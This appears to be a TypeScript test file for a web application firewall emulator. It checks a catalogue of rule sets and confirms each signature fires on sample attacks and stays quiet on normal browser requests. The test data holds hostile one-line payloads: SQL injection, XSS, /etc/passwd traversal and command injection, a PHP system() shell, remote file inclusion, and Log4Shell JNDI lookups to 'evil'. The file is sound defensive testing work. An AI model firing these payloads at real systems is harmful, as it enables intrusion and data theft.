import { describe, expect, it } from 'vitest';
import { normalizeArmorRequest } from './armor-request.normalizer';
import { compileMatchExpression } from './match-expression.compiler';
import {
  PRECONFIGURED_EXPRESSION_SETS,
  findPreconfiguredExpressionSet,
  listPreconfiguredExpressionSets,
} from './preconfigured-expression-sets.catalogue';
import type { ArmorRequest } from './security-policy.types';

describe('preconfigured expression set catalogue', () => {
  it.each([
    'sqli-stable',
    'xss-canary',
    'sqli-v33-stable',
    'xss-v33-stable',
    'lfi-v33-stable',
    'rfi-v33-stable',
    'rce-v33-stable',
    'methodenforcement-v33-stable',
    'scannerdetection-v33-stable',
    'protocolattack-v33-stable',
    'php-v33-stable',
    'sessionfixation-v33-stable',
    'java-v33-stable',
    'nodejs-v33-stable',
    'sqli-v422-stable',
    'generic-v422-stable',
    'cve-canary',
    'json-sqli-canary',
    'sourceiplist-fastly',
  ])('lists %s', (id) => {
    expect(findPreconfiguredExpressionSet(id)).toBeDefined();
    expect(
      listPreconfiguredExpressionSets().preconfiguredExpressionSets.wafRules.expressionSets.map((s) => s.id),
    ).toContain(id);
  });

  it.each(['nodejs-v422-stable', 'java-stable', 'sqli-v34-stable'])('does not list %s', (id) => {
    expect(findPreconfiguredExpressionSet(id)).toBeUndefined();
  });

  it('has unique ids and versioned signature ids', () => {
    const ids = PRECONFIGURED_EXPRESSION_SETS.map((s) => s.id);
    expect(new Set(ids).size).toBe(ids.length);
    const sets = listPreconfiguredExpressionSets().preconfiguredExpressionSets.wafRules.expressionSets;
    expect(sets.find((s) => s.id === 'sqli-v33-stable')?.expressions).toContainEqual({
      id: 'owasp-crs-v030301-id942100-sqli',
      sensitivity: 1,
    });
    expect(sets.find((s) => s.id === 'cve-canary')?.expressions[0]?.id).toBe(
      'owasp-crs-v030001-id044228-cve',
    );
  });
});

const GET: ArmorRequest = {
  sourceIp: '198.51.100.7',
  method: 'GET',
  path: '/',
  headers: { 'user-agent': 'Mozilla/5.0' },
};

function fires(expression: string, request: Partial<ArmorRequest>): boolean | Error {
  const compiled = compileMatchExpression(expression, {
    namedIpLists: { 'sourceiplist-fastly': ['151.101.0.0/16'] },
  });
  if (!compiled.ok) throw new Error(compiled.problem.text);
  return compiled.value.evaluate(normalizeArmorRequest({ ...GET, ...request }));
}

describe('approximate WAF signatures', () => {
  it.each<{ set: string; attack: Partial<ArmorRequest> }>([
    { set: 'sqli-v33-stable', attack: { query: "id=1'%20OR%20'1'='1" } },
    { set: 'sqli-v422-stable', attack: { query: 'q=1%20UNION%20SELECT%20password%20FROM%20users' } },
    { set: 'xss-v33-stable', attack: { query: 'q=%3Cscript%3Ealert(1)%3C/script%3E' } },
    { set: 'xss-stable', attack: { headers: { referer: 'javascript:alert(1)' } } },
    { set: 'lfi-v33-stable', attack: { path: '/static/../../etc/passwd' } },
    { set: 'rfi-v33-stable', attack: { query: 'page=http://203.0.113.5/shell.txt' } },
    { set: 'rce-v33-stable', attack: { query: 'host=example.com;cat%20/etc/passwd' } },
    { set: 'methodenforcement-v33-stable', attack: { method: 'TRACE' } },
    { set: 'scannerdetection-v33-stable', attack: { headers: { 'user-agent': 'sqlmap/1.7' } } },
    { set: 'protocolattack-v33-stable', attack: { query: 'a=b%0d%0aSet-Cookie:%20x=1' } },
    { set: 'php-v33-stable', attack: { query: 'x=%3C?php%20system($_GET[c]);' } },
    { set: 'sessionfixation-v33-stable', attack: { query: 'PHPSESSID=attacker' } },
    { set: 'java-v33-stable', attack: { headers: { 'user-agent': '${jndi:ldap://evil/a}' } } },
    { set: 'nodejs-v33-stable', attack: { query: "x=require('child_process').exec('id')" } },
    { set: 'generic-v422-stable', attack: { query: '__proto__[admin]=1' } },
    { set: 'cve-canary', attack: { headers: { 'x-api-version': '${jndi:dns://x}' } } },
    { set: 'json-sqli-canary', attack: { headers: { 'x-q': '{"a" ->> 0}' } } },
  ])('$set fires on an attack and not on a plain GET', ({ set, attack }) => {
    expect(fires(`evaluatePreconfiguredExpr('${set}')`, attack)).toBe(true);
    expect(fires(`evaluatePreconfiguredWaf('${set}', {'sensitivity': 1})`, attack)).toBe(true);
    expect(fires(`evaluatePreconfiguredExpr('${set}')`, { query: 'q=hello+world&page=2' })).toBe(false);
  });

  const browser: Partial<ArmorRequest> = {
    method: 'POST',
    path: '/api/v1/orders/1234',
    query: 'page=2&sort=-created&q=red%20shoes%20size%3A42&redirect=%2Faccount',
    headers: {
      'user-agent':
        'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36',
      accept: 'text/html,application/xhtml+xml;q=0.9,*/*;q=0.8',
      cookie: 'session=eyJhbGciOiJIUzI1NiJ9.e30.abc; theme=dark',
      referer: 'https://shop.example.com/cart?step=1',
      'content-type': 'application/json',
    },
  };

  it.each(PRECONFIGURED_EXPRESSION_SETS.filter((set) => set.kind === 'waf').map((set) => set.id))(
    '%s does not fire on a typical browser request',
    (id) => {
      expect(fires(`evaluatePreconfiguredExpr('${id}')`, browser)).toBe(false);
    },
  );

  it.each([
    {
      expression: "evaluatePreconfiguredExpr('xss-v33-stable', ['owasp-crs-v030301-id941100-xss'])",
      fires: false,
    },
    {
      expression:
        "evaluatePreconfiguredWaf('xss-v33-stable', {'opt_out_rule_ids': ['owasp-crs-v030301-id941100-xss']})",
      fires: false,
    },
    { expression: "evaluatePreconfiguredWaf('xss-v33-stable', {'sensitivity': 0})", fires: false },
    {
      expression:
        "evaluatePreconfiguredWaf('xss-v33-stable', {'sensitivity': 0, 'opt_in_rule_ids': ['owasp-crs-v030301-id941100-xss']})",
      fires: true,
    },
    {
      expression: "evaluatePreconfiguredExpr('xss-v33-stable', ['owasp-crs-v042200-id941100-xss'])",
      fires: true,
    },
  ])('tuning: $expression', ({ expression, fires: expected }) => {
    expect(fires(expression, { query: 'q=%3Cscript%3E' })).toBe(expected);
  });

  it('named IP lists match the ranges they are given', () => {
    expect(fires("evaluatePreconfiguredExpr('sourceiplist-fastly')", { sourceIp: '151.101.1.1' })).toBe(true);
    expect(fires("evaluatePreconfiguredExpr('sourceiplist-fastly')", {})).toBe(false);
    expect(fires("evaluatePreconfiguredExpr('sourceiplist-cloudflare')", { sourceIp: '151.101.1.1' })).toBe(
      false,
    );
  });

  it('threat intelligence and address groups never match (no data in the emulator)', () => {
    expect(fires("evaluateThreatIntelligence('iplist-known-malicious-ips')", {})).toBe(false);
    expect(fires("evaluateAddressGroup('my-group', origin.user_ip)", {})).toBe(false);
  });
});
